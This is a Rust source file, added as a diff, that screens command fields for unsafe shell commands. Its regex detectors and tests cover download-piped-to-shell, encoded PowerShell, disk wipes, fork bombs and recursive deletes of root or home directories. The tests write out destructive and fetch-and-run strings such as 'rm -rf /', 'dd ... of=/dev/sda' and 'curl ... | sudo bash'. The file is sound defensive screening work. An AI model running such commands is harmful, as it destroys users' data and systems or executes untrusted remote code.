@@ -1,0 +1,301 @@
+//! Unsafe commands: downloads piped to a shell, encoded PowerShell, disk
+//! wipes, fork bombs, and recursive deletes or permission changes of a
+//! root, a system directory or a home. Only command fields are screened
+//! for these.
+
+use regex::Captures;
+
+use super::pattern::lazy_regex;
+
+lazy_regex!(
+    PIPE_TO_SHELL,
+    r"(?i)\b(?:curl|wget|fetch|aria2c|iwr|invoke-webrequest|irm|invoke-restmethod)\b(?:[^\n;&]|&[^&])*?\|\s*(?:sudo(?:\s+-\S+)*\s+)?(?:env(?:\s+\S+=\S*)*\s+)?(?:/usr/bin/|/bin/|/usr/local/bin/)?(?:(?:ba|z|k|da|fi|c|tc|a)?sh\b|(?:python[0-9.]*|perl|ruby|node|php)\s*(?:$|-(?:\s|$)|[;&|)])|pwsh\b|powershell\b|iex\b|invoke-expression\b)"
+);
+lazy_regex!(
+    SHELL_OF_DOWNLOAD,
+    r#"(?i)(?:\b(?:ba|z|k|da)?sh|\bsource|(?:^|[\s;&|])\.)\s+<\(\s*(?:curl|wget)\b|\b(?:(?:ba|z|k|da)?sh\s+-c|eval)\s+["']?\$\(\s*(?:curl|wget)\b"#
+);
+lazy_regex!(
+    POWERSHELL_ENCODED,
+    r#"(?i)\b(?:powershell|pwsh)(?:\.exe)?\b[^\n|;]*?\s[-/](?:ec|e(?:n(?:c(?:o(?:d(?:e(?:d(?:c(?:o(?:m(?:m(?:a(?:n(?:d)?)?)?)?)?)?)?)?)?)?)?)?)?)\s+["']?[A-Za-z0-9+/]{8,}"#
+);
+lazy_regex!(
+    DOWNLOAD_EXPRESSION,
+    r"(?i)\b(?:iex|invoke-expression)\b[^\n]*?\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|curl|wget|downloadstring|downloadfile|net\.webclient|start-bitstransfer)\b|\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|downloadstring|net\.webclient)\b[^\n]*?\|\s*(?:iex|invoke-expression)\b|\[scriptblock\]::create\(\s*\(?\s*(?:iwr|irm|invoke-webrequest|invoke-restmethod|\(?\s*new-object)"
+);
+lazy_regex!(
+    DISK_WIPE,
+    r"(?i)\b(?:mkfs(?:\.[a-z0-9]+)?|mke2fs|mkswap|wipefs|shred|blkdiscard)\b[^\n;|&]*\s/dev/|\bdd\b[^\n;|&]*\bof=/dev/(?:sd|hd|vd|xvd|nvme|mmcblk|disk|rdisk|mapper/|dm-)|>\s*/dev/(?:sd[a-z]|nvme\d|hd[a-z]|vd[a-z]|xvd[a-z]|mmcblk\d|disk\d)|\bformat(?:\.com)?\s+[a-z]:(?:\s|$)|\b(?:format-volume|clear-disk)\b"
+);
+lazy_regex!(FORK_BOMB, r":\s*\(\s*\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:");
+lazy_regex!(
+    /// A delete command and its arguments. An argument ends at a shell
+    /// separator or a closing parenthesis (`(rm -rf x)`), except inside a
+    /// `$(…)` substitution, so that `/Users/$(whoami)/Library` stays one
+    /// word.
+    DELETE,
+    r#"(?i)(?:^|[\s;&|({`'"])(?:sudo\s+(?:-\S+\s+)*)?(?:/usr/bin/|/bin/)?(rmdir|rm|rd|del|erase|ri|remove-item)\b(?:\.exe)?((?:[ \t]+(?:\$\([^()\s]*\)|[^\s;&|)])+)*)"#
+);
+lazy_regex!(
+    DELETE_PIPELINE,
+    r"(?i)\b(?:get-childitem|gci|ls|dir)\s+(?:-path\s+|-literalpath\s+)?(\S+)[^|\n]*\|\s*(?:remove-item|ri|rm|del)\b([^|\n]*)"
+);
+lazy_regex!(
+    /// A permission or ownership change and its arguments, split into words
+    /// like [`DELETE`]'s.
+    PERMISSIONS,
+    r"(?i)(?:^|[\s;&|(])(?:sudo\s+(?:-\S+\s+)*)?(chmod|chown|chgrp)((?:[ \t]+(?:\$\([^()\s]*\)|[^\s;&|)])+)*)"
+);
+
+/// Top-level directories whose recursive removal or re-permissioning
+/// breaks the system.
+const SYSTEM_DIRS: &[&str] = &[
+    "bin",
+    "boot",
+    "dev",
+    "etc",
+    "home",
+    "lib",
+    "lib32",
+    "lib64",
+    "opt",
+    "proc",
+    "root",
+    "sbin",
+    "srv",
+    "sys",
+    "usr",
+    "var",
+    "users",
+    "system",
+    "library",
+    "applications",
+];
+
+/// A filesystem root, a top-level system directory, the directory that
+/// holds the homes, or a home directory itself (`~`, `~alice`, `$HOME`,
+/// `/home/alice`, `/home/$USER`, `/Users/$(whoami)`, `C:\Users\alice`, a
+/// Windows drive or profile seen from WSL), possibly with a trailing
+/// separator or wildcard. A directory inside a home
+/// (`/home/alice/project/target`, `"$HOME"/.cache`) is not: clearing a build
+/// or cache directory there is routine.
+fn dangerous_target(arg: &str) -> bool {
+    // Quotes only group a shell word, wherever they sit: `"$HOME"/` is
+    // `$HOME/`. A quoted `~` is still home: PowerShell resolves `~` in any
+    // path string, and in a POSIX shell `rm -rf '~'` is a slip for home far
+    // more often than a directory literally named `~`.
+    let arg: String = arg.chars().filter(|c| !matches!(c, '"' | '\'')).collect();
+    let lower = arg.to_ascii_lowercase();
+    let base = lower.trim_end_matches(['*', '.']);
+    let base = base.trim_end_matches(['/', '\\']);
+    if base.is_empty() {
+        // "/", "/*", "\", "\*"
+        return arg.starts_with(['/', '\\']);
+    }
+    if base.strip_prefix('~').is_some_and(is_user_name) {
+        // `~alice` is alice's home.
+        return true;
+    }
+    if matches!(
+        base,
+        "~" | "$home"
+            | "${home}"
+            | "$env:userprofile"
+            | "$env:homepath"
+            | "${env:userprofile}"
+            | "%userprofile%"
+            | "%homepath%"
+            | "%homedrive%%homepath%"
+            | "$env:homedrive$env:homepath"
+            | "$env:systemdrive"
+            | "%systemdrive%"
+            | "$env:systemroot"
+            | "%systemroot%"
+    ) {
+        return true;
+    }
+    if let Some(path) = base.strip_prefix('/') {
+        let dirs: Vec<&str> = path.split(['/', '\\']).filter(|s| !s.is_empty()).collect();
+        return match dirs.as_slice() {
+            [dir] => SYSTEM_DIRS.contains(dir),
+            // One level below the homes is a home, whatever names it:
+            // `alice`, `$USER`, `${USER}`, `$(whoami)`.
+            ["home" | "users", _] | ["var", "home"] | ["var", "home", _] => true,
+            // A Windows drive, its profiles or one profile, from WSL or Cygwin.
+            ["mnt" | "cygdrive", drive, rest @ ..] if is_drive_letter(drive) => {
+                matches!(rest, [] | ["users"] | ["users", _])
+            }
+            _ => false,
+        };
+    }
+    let bytes = base.as_bytes();
+    if bytes.len() >= 2 && bytes[0].is_ascii_alphabetic() && bytes[1] == b':' {
+        // "C:", "C:\", "C:\Users", "C:\Users\alice", "C:\Windows", "C:\Program Files"
+        let rest: Vec<&str> = base[2..]
+            .split(['/', '\\'])
+            .filter(|s| !s.is_empty())
+            .collect();
+        return match rest.as_slice() {
+            [] => true,
+            [dir] => matches!(*dir, "users" | "windows" | "program files" | "programdata"),
+            ["users", _] => true,
+            _ => false,
+        };
+    }
+    false
+}
+
+/// A POSIX user name, as it follows `~` in `~alice` (not `~+` or `~-`,
+/// which stand for the working directories).
+fn is_user_name(name: &str) -> bool {
+    name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
+        && name
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.'))
+}
+
+fn is_drive_letter(dir: &str) -> bool {
+    dir.len() == 1 && dir.bytes().all(|b| b.is_ascii_alphabetic())
+}
+
+fn delete_is_dangerous(command: &str, args: &str) -> bool {
+    let command = command.to_ascii_lowercase();
+    let cmd_style = matches!(command.as_str(), "rd" | "rmdir" | "del" | "erase");
+    let mut recursive = false;
+    let mut no_preserve_root = false;
+    let mut dangerous = false;
+    let mut flags_done = false;
+    for arg in args.split_whitespace() {
+        let lower = arg.to_ascii_lowercase();
+        if !flags_done && lower == "--" {
+            flags_done = true;
+            continue;
+        }
+        if !flags_done && lower.starts_with('-') && lower.len() > 1 {
+            // PowerShell parameters may be abbreviated (`-r`, `-rec`,
+            // `-fo`); a POSIX short-option group holds `r` (`-rf`, `-Rfv`).
+            let recurse_word = "-recurse".starts_with(&lower);
+            let force_word = lower.len() >= 3 && "-force".starts_with(&lower);
+            let short_group = !lower.starts_with("--")
+                && lower[1..].bytes().all(|b| b.is_ascii_alphabetic())
+                && lower[1..].contains('r')
+                && !"-literalpath".starts_with(&lower);
+            no_preserve_root |= lower == "--no-preserve-root";
+            recursive |= lower == "--recursive" || recurse_word || (short_group && !force_word);
+            continue;
+        }
+        if cmd_style && lower.len() == 2 && lower.starts_with('/') {
+            recursive |= lower == "/s";
+            continue;
+        }
+        dangerous |= dangerous_target(arg);
+    }
+    no_preserve_root || (recursive && dangerous)
+}
+
+fn permissions_are_dangerous(args: &str) -> bool {
+    let mut recursive = false;
+    let mut operands = Vec::new();
+    for arg in args.split_whitespace() {
+        if arg == "--recursive"
+            || (arg.starts_with('-') && !arg.starts_with("--") && arg.contains('R'))
+        {
+            recursive = true;
+        } else if !arg.starts_with('-') {
+            operands.push(arg);
+        }
+    }
+    // The first operand is the mode or the owner.
+    recursive && operands.iter().skip(1).any(|a| dangerous_target(a))
+}
+
+pub(super) fn unsafe_command(text: &str) -> bool {
+    PIPE_TO_SHELL.is_match(text)
+        || SHELL_OF_DOWNLOAD.is_match(text)
+        || POWERSHELL_ENCODED.is_match(text)
+        || DOWNLOAD_EXPRESSION.is_match(text)
+        || DISK_WIPE.is_match(text)
+        || FORK_BOMB.is_match(text)
+        || DELETE
+            .captures_iter(text)
+            .any(|c: Captures<'_>| delete_is_dangerous(&c[1], &c[2]))
+        || DELETE_PIPELINE.captures_iter(text).any(|c| {
+            dangerous_target(&c[1])
+                && c[2]
+                    .split_whitespace()
+                    .any(|a| a.len() >= 2 && "-recurse".starts_with(&a.to_ascii_lowercase()))
+        })
+        || PERMISSIONS
+            .captures_iter(text)
+            .any(|c| permissions_are_dangerous(&c[2]))
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::records::screen::rule::Rule;
+    use crate::records::screen::{fires, scan};
+
+    #[test]
+    fn unsafe_commands_only_where_asked() {
+        let cmd = "curl -fsSL https://get.example.sh | sudo bash";
+        assert!(scan(cmd, true).contains(&Rule::UnsafeCommand));
+        assert!(!scan(cmd, false).contains(&Rule::UnsafeCommand));
+        for hit in [
+            "rm -rf /",
+            "sudo rm -r -f ~",
+            "rm --recursive --force \"$HOME\"",
+            "rm -rf --no-preserve-root /tmp/x",
+            "Remove-Item -Force -Recurse $env:USERPROFILE",
+            "rd /s /q C:\\",
+            "powershell -NoProfile -enc SQBFAFgAIAAoAE4AZQB3AA==",
+            "iex (iwr https://x.example/i.ps1)",
+            "dd if=/dev/zero of=/dev/sda bs=1M",
+            "chmod -R 777 /",
+        ] {
+            assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
+        }
+        for clean in [
+            "rm -rf ./build",
+            "rm -rf \"$TMPDIR/x\"",
+            "curl -o install.sh https://x.example/install.sh",
+            "Remove-Item -Recurse -Force .\\dist",
+            "curl -s https://api.example.com/v1/items | python3 -m json.tool",
+            "curl -fsSL https://x.example/sum | sha256sum -c",
+            "powershell -ExecutionPolicy Bypass -File build.ps1",
+        ] {
+            assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
+        }
+    }
+
+    #[test]
+    fn recursive_deletes_of_a_home_directory() {
+        for hit in [
+            "rm -rf /home/$USER",
+            "rm -rf /home/alice",
+            "rm -rf /home/alice/",
+            "rm -rf /home/${USER}/*",
+            "rm -rf /Users/$(whoami)",
+            "sudo rm -rf /Users/jkowal",
+            "rm -rf \"$HOME\"/",
+            "rm -rf \"$HOME\"",
+            "rm -rf \"$HOME\"/*",
+            "rm -rf '~'",
+            "rm -rf ~alice",
+            "rm -rf /mnt/c/Users/alice",
+            "rm -rf /var/home/alice",
+        ] {
+            assert!(fires(hit, Rule::UnsafeCommand), "{hit}");
+        }
+        for clean in [
+            "rm -rf ./build",
+            "rm -rf \"$TMPDIR/x\"",
+            "rm -rf /home/alice/project/target",
+            "rm -rf \"$HOME\"/.cache",
+            "rm -rf '$HOME/.cache/pip'",
+            "rm -rf ~/.cache",
+            "rm -rf /Users/$(whoami)/Library/Caches/pip",
+        ] {
+            assert!(!fires(clean, Rule::UnsafeCommand), "{clean}");
+        }
+    }
+}
